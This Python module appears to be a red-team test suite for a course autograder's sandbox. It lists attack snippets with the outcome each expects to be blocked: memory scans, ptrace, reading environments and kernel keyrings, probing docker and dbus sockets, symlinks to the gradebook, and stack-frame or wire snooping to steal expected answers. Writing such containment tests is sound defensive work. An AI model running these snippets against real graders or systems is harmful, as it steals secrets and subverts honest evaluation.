"""Attacks on what a student must not read: hidden tests, solutions, secrets, the work of others (P1, P8)."""

import json
from pathlib import Path

from attack import ESCAPED, TRIED, Attack

_SEARCH = """
import re
def pieces(mode="rw-p"):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps.read().splitlines():
            if mode not in line or "[v" in line: continue
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            for at in range(start, end, 8 << 20):
                # the pieces overlap, so that a word on a border is whole in one of them
                memory.seek(at)
                try: yield memory.read(min(end - at, (8 << 20) + 64))
                except OSError: break
def follows(data, front, back_reversed):
    for found in re.finditer(re.escape(front), data):
        if data[found.end():found.end() + len(back_reversed)][::-1] == back_reversed: return True
"""
"""Finds a word in memory without ever making the whole word, which it would then find."""

_OUTSIDE = """
import sys
def outside():
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_globals is not globals(): yield frame
        frame = frame.f_back
def floats(thing, depth=5):
    if type(thing) is float: yield thing
    elif depth:
        if isinstance(thing, dict): thing = [*thing.values()]
        elif hasattr(thing, "__closure__"):
            thing = [cell.cell_contents for cell in thing.__closure__ or () if cell != type(cell)()]
        for part in thing if isinstance(thing, (list, tuple, set)) else (): yield from floats(part, depth - 1)
"""
"""Walks up from a function of the student's to whoever called it."""


def _links_beside(course: Path, folder: Path) -> None:
    targets = ("gradebook.db", ".offering_secret", "solutions/lesson3/hidden_test.py")
    for number, target in enumerate(targets):
        (folder / f"data{number}.csv").symlink_to(course / target)
    open_them = f"""
for number in range({len(targets)}):
    try: print({ESCAPED!r}, open(f"data{{number}}.csv", errors="replace").read())
    except OSError: pass
print({TRIED!r})
"""
    released = json.loads((course / "assignments/lesson3/lesson3.ipynb").read_text())
    notebook = Attack("", "", "", first=open_them).notebook(released, "")
    (folder / "lesson3.ipynb").write_text(json.dumps(notebook))


ATTACKS = [
    Attack(
        "hidden files by their names",
        tries="to open the gradebook, the secret, the graders and another submission by their paths",
        gets="no such file",
        first="""
for path in HIDDEN:
    try: got(open(path, errors="replace").read())
    except OSError: pass
tried()
""",
    ),
    Attack(
        "hidden files by other doors",
        tries="to reach the same files from the root, the folder or a descriptor of any process",
        gets="no process but its own, whose root is the sandbox",
        first="""
import glob
doors = [door for name in ("root", "cwd", "fd/*", "task/*/root") for door in glob.glob(f"/proc/*/{name}")]
for door in doors:
    for path in HIDDEN:
        for way in (door + path, door + "/../../../../../.." + path):
            try: got(open(way, errors="replace").read())
            except OSError: pass
assert doors
tried()
""",
    ),
    Attack(
        "a walk through all folders",
        tries="to find graders, gradebooks, secrets and notebooks wherever they lie",
        gets="the packages and its own notebook's files",
        first="""
import os
wanted = ("hidden_test.py", "wrong_answers.py", "right_answers.py", "gradebook.db", ".offering_secret")
for folder, folders, names in os.walk("/"):
    got_here = [n for n in names if n in wanted or n.endswith(".ipynb") or n.startswith("hidden_test.")]
    if got_here: got((folder, got_here))
    if folder.endswith("-packages"):
        # a package's own notebooks are its examples; one of the course's would be a folder of another name
        folders[:] = [n for n in folders if n in ("autograder", "solutions", "course")]
    if folder in ("/proc", "/sys"): folders.clear()
tried()
""",
    ),
    Attack(
        "the checkout of an editable install",
        tries="to read the checkout that the installed package names, compiled files included",
        gets="the name of a folder that is not there",
        first="""
import glob, importlib.util, json, os, re, sys
places = {re.sub("/solutions/.*", "", p) for p in HIDDEN} | {p for p in sys.path if "python" not in p}
for folder in sys.path:
    for path in glob.glob(folder + "/*.pth") + glob.glob(folder + "/__editable__*"):
        places |= {line.strip() for line in open(path) if line.startswith("/")}
    for path in glob.glob(folder + "/*.dist-info/direct_url.json"):
        places.add(json.load(open(path))["url"].removeprefix("file://"))
for place in places:
    for name in ("hidden_test.py", "lesson3.py", "wrong_answers.py"):
        source = f"{place}/solutions/lesson3/{name}"
        compiled = importlib.util.cache_from_source(source)
        for path in [source, *glob.glob(compiled.replace(".pyc", "*"))]:
            if os.path.exists(path): got(open(path, "rb").read())
    if glob.glob(f"{place}/autograder/*") or glob.glob(f"{place}/.git/*"): got(place)
tried()
""",
    ),
    Attack(
        "an import of the judge",
        tries="to import graders, solutions and the judge's own training loops",
        gets="no module of that name",
        first="""
import importlib, sys
sys.path += [path.rpartition("/")[0] for path in HIDDEN]
names = "autograder.grading autograder.sandbox course.judge.expect course.judge.replay"
for name in [*names.split(), "hidden_test", "wrong_answers", "right_answers", "solutions.lesson3.hidden_test"]:
    try: got(importlib.import_module(name))
    except ImportError: pass
tried()
""",
    ),
    Attack(
        "a search of its own memory",
        tries="to find what the process that it was forked from had read",
        gets="memory in which nobody ever put a secret",
        # in two cells, since each has 3 s only
        first=_SEARCH
        + """
import time
words = [(FIRST.encode(), BACK.encode()), (b"def expect_curve_", b"tneidarg"), (b"BEGIN ", b"NOITULOS")]
left, read = pieces(), 0
def search_on():
    global read
    end = time.monotonic() + 1.5
    for data in left:
        read += len(data)
        for word in words:
            if follows(data, *word): got(word)
        if time.monotonic() > end: break
search_on()
""",
        last="search_on()\nassert read\ntried()",
    ),
    Attack(
        "the memory of the first process",
        tries="to read and to rewrite the process that watches over it",
        gets="no access, although both have the same user",
        first="""
for mode in ("rb", "r+b"):
    try:
        start = int(open("/proc/1/maps").readline().split("-")[0], 16)
        with open("/proc/1/mem", mode, 0) as memory:
            memory.seek(start)
            got(memory.read(16))
    except OSError: pass
tried()
""",
    ),
    Attack(
        "a debugger",
        tries="to attach itself to every process and to read it by the calls of a debugger",
        gets="calls that are refused",
        first="""
import ctypes, os
libc = ctypes.CDLL(None)
class Piece(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
known = ctypes.create_string_buffer(b"here")
room = ctypes.create_string_buffer(4)
ours, theirs = Piece(ctypes.addressof(room), 4), Piece(ctypes.addressof(known), 4)
for pid in {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid()}:
    # forked from one another: the same things lie at the same addresses
    if libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) == 4: got(("read", pid))
    if libc.ptrace(0x4206, pid, None, None) == 0: got(("seized", pid))
tried()
""",
    ),
    Attack(
        "environments and command lines",
        tries="to read what every process in sight was started with",
        gets="an environment of a dozen plain names, and no process of the grader's",
        first="""
import glob, os
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try: data = open(path, errors="replace").read()
    except OSError: continue
    at = data.find(FIRST)
    if at >= 0 and data[at + len(FIRST):].startswith(BACK[::-1]): got(path)
    if any(word in data for word in ("pytest", "autograder", "submitted", "SECRET=", "TOKEN=")): got(data)
if "PATH" in os.environ or any(FIRST in value for value in os.environ.values()): got(dict(os.environ))
tried()
""",
    ),
    Attack(
        "inherited descriptors",
        tries="to read files that were open before it began",
        gets="its own channel, and nothing in place of the standard streams",
        first="""
import os
for number in map(int, os.listdir("/proc/self/fd")):
    try: name = os.readlink(f"/proc/self/fd/{number}")
    except OSError: continue
    if name != "/dev/null" and not name.startswith("socket:"):
        if number < 3 or name.startswith(("/memfd", "pipe:", "anon_inode")) or "deleted" in name: got((number, name))
if sum("socket:" in os.path.realpath(f"/proc/self/fd/{n}") for n in range(64)) > 1: got("another's socket")
tried()
""",
    ),
    Attack(
        "all objects of the interpreter",
        tries="to find graders, verdicts or a reference solution among what the collector knows",
        gets="libraries and its own cells",
        first="""
import gc, types
gc.unfreeze()
for thing in gc.get_objects():
    kind = type(thing)
    if kind is types.FunctionType:
        where = thing.__module__ or ""
        where = where if isinstance(where, str) else ""
        if where.startswith(("course.judge", "autograder", "hidden_test")): got(thing)
        if thing.__name__.startswith("test_gradient_") or thing.__name__ == "per_sample": got(thing)
    elif kind is dict and any(k in thing for k in ("expected", "reference")) and "gradient_w1" in str(thing)[:9999]:
        got(list(thing))
tried()
""",
    ),
    Attack(
        "a walk up the stack",
        tries="to take the expected value out of the frames of whoever calls it",
        gets="frames of the responder, which was told no expected value",
        answers={
            "3-1": _OUTSIDE
            + """
def gradient(x, y, w):
    for frame in outside():
        for found in [*floats(dict(frame.f_locals)), *floats(frame.f_globals)]:
            if abs(found - 2 * x * (x * w - y)) < 1e-6: return found
    return 0.0
"""
        },
        last="tried()",
    ),
    Attack(
        "the text around a probe",
        tries="to read the hidden test out of the code that calls it, by frames, linecache and inspect",
        gets="the source of the probe alone, which says what is called and not what is expected",
        answers={
            "3-3": _OUTSIDE
            + """
import inspect, linecache
def train(xs, ys, w1, w2, b, lr, epochs):
    texts = ["".join(lines) for _, _, lines, _ in map(tuple, map(lambda c: (*c, None)[:4], linecache.cache.values()))
             if isinstance(lines, list)]
    for frame in outside():
        texts += [v for v in frame.f_locals.values() if isinstance(v, str)]
        texts += [str(v) for v in frame.f_locals.values() if isinstance(v, dict) and "source" in v]
        try: texts.append(inspect.getsource(frame))
        except (OSError, TypeError): pass
    for text in texts:
        for word in ("def test" + "_weights", "TRAIN_" + "MISTAKES", "def per_" + "sample", "thresh" + "olds("):
            if word in text: raise ValueError("ESCAPED " + word)
    return w1, w2, b, [0.0] * epochs
"""
        },
        last="tried()",
    ),
    Attack(
        "requests on the wire",
        tries="to read the grader's requests before the responder does, and the answers in them",
        gets="inputs that its functions are called with anyway",
        first="""
import re, struct, sys
heard = []
service = sys.modules["inside.service"]
receive = service.receive_frame
def overhear(channel):
    number, payload = receive(channel)
    heard.append(payload)
    return number, payload
service.receive_frame = overhear
tried()
""",
        answers={
            "3-1": """
def gradient(x, y, w):
    expected = 2 * x * (x * w - y)
    for payload in heard:
        for at in range(len(payload) - 7):
            for order in "<>":
                found, = struct.unpack_from(order + "d", payload, at)
                if abs(found - expected) < 1e-9: return found
        for found in re.findall(rb"-?[0-9]+[.][0-9]+(?:e-?[0-9]+)?", payload):
            if abs(float(found) - expected) < 1e-6: return float(found)
    if not heard: raise ValueError("ESCAPED nothing was overheard: this attack is broken")
    return 0.0
"""
        },
    ),
    Attack(
        "the replies of others",
        tries="to read the wire itself for frames of another submission, and to have old ones repeated",
        gets="silence until it is asked",
        first="""
import os, socket, stat
for number in range(3, 64):
    try:
        if not stat.S_ISSOCK(os.fstat(number).st_mode): continue
        wire = socket.socket(fileno=os.dup(number))
    except OSError: continue
    for flags in (socket.MSG_PEEK, socket.MSG_OOB, socket.MSG_ERRQUEUE):
        try: data, ancillary, _, _ = wire.recvmsg(1 << 20, socket.CMSG_SPACE(256), flags | socket.MSG_DONTWAIT)
        except OSError: continue
        if data or ancillary: got((data, ancillary))
tried()
""",
    ),
    Attack(
        "right answers that a probe lends",
        tries="to keep the gradients that the graders lend to its train, and to answer with them",
        gets="nothing: what is lent was asked before",
        answers={
            "3-2": """
lent = {}
def of(name): return lambda x, y, w1, w2, b: lent[name](x, y, w1, w2, b) if name in lent else 0.0
gradient_w1, gradient_w2, gradient_b = of("gradient_w1"), of("gradient_w2"), of("gradient_b")
""",
            "3-3": """
def train(xs, ys, w1, w2, b, lr, epochs):
    lent.update({name: globals()[name] for name in ("gradient_w1", "gradient_w2", "gradient_b")})
    return w1, w2, b, [0.0] * epochs
""",
        },
        last="tried()",
    ),
    Attack(
        "links beside the notebook",
        tries="to have the notebook open links that lead to the gradebook, the secret and the graders",
        gets="a notebook without the links",
        lay=_links_beside,
    ),
    Attack(
        "a shell",
        tries="to read hidden files by the programs of the machine",
        gets="no program to run but Python",
        first="""
import subprocess
ip = get_ipython()
for path in HIDDEN:
    for run in (lambda: ip.getoutput(f"cat {path} 2>/dev/null"),
                lambda: ip.run_cell_magic("bash", "--out text", f"cat {path}") or ip.user_ns.get("text"),
                lambda: subprocess.check_output(["/bin/cat", path]),
                lambda: subprocess.check_output(["/lib64/ld-linux-x86-64.so.2", "/bin/cat", path])):
        try:
            if text := run(): got(text)
        except (OSError, subprocess.SubprocessError): pass
tried()
""",
    ),
    Attack(
        "memory and messages of the kernel",
        tries="to read the machine's memory, its kernel's messages and its disks",
        gets="no such device, and a call that is refused",
        first="""
import ctypes, glob
devices = ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/proc/kmsg", "/proc/kcore", "/proc/vmcore",
           "/proc/kpageflags", *glob.glob("/dev/[svx]d*"), *glob.glob("/dev/nvme*"), *glob.glob("/dev/input/*")]
for path in devices:
    try: got(open(path, "rb", 0).read(16))
    except OSError: pass
if ctypes.CDLL(None).klogctl(3, ctypes.create_string_buffer(4096), 4096) >= 0: got("messages")
tried()
""",
    ),
    Attack(
        "sockets to the world",
        tries="to send what it found to a server",
        gets="sockets of the machine's own kind alone",
        first="""
import socket
for family in (socket.AF_INET, socket.AF_INET6):
    try: got(socket.socket(family))
    except OSError: pass
try: got(socket.getaddrinfo("example.org", 80))
except OSError: pass
tried()
""",
    ),
    Attack(
        "sockets of every other kind",
        tries="to reach the kernel, the wire or a virtual machine's host by the families that few know",
        gets="no family but the one between processes",
        first="""
import socket
for family in set(range(46)) - {socket.AF_UNIX}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try: got(socket.socket(family, kind))
        except OSError: pass
        try: got(socket.socketpair(family, kind))
        except OSError: pass
tried()
""",
    ),
    Attack(
        "services of this machine",
        tries="to talk to the servers of this machine by names, paths and numbers",
        gets="no name in its network, and no path in its root",
        first="""
import glob, os, socket
table = [line.split() for line in open("/proc/net/unix").read().splitlines()[1:]]
names = ["\\0" + row[7][1:] if row[7][0] == "@" else row[7] for row in table if len(row) > 7]
names += ["/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", *glob.glob("/tmp/.X11-unix/*")]
for name in names:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        with socket.socket(socket.AF_UNIX, kind) as client:
            try: client.connect(name)
            except OSError: continue
            got(name)
ports = {int(row.split()[1].split(":")[1], 16) for row in open("/proc/net/tcp").read().splitlines()[1:]}
for port in sorted(ports):
    try: got(socket.create_connection(("127.0.0.1", port), 0.2))
    except OSError: pass
tried()
""",
    ),
    Attack(
        "keys of the kernel",
        tries="to read the keys that whoever started the grader holds",
        gets="calls that are refused",
        first="""
import ctypes, platform
base = 248 if platform.machine() == "x86_64" else 217
libc = ctypes.CDLL(None)
for ring in (-1, -2, -3, -4, -5):  # of the thread, the process, the session, the user
    key = libc.syscall(base + 2, 0, ring, 1)
    text = ctypes.create_string_buffer(4096)
    if key >= 0 and libc.syscall(base + 2, 6, key, text, 4096) >= 0: got(text.value)
# a keyring's name is its user's number, a key's may be a secret
try:
    for line in open("/proc/keys"):
        if line.split()[7] != "keyring": got(line)
except PermissionError: pass
tried()
""",
    ),
]
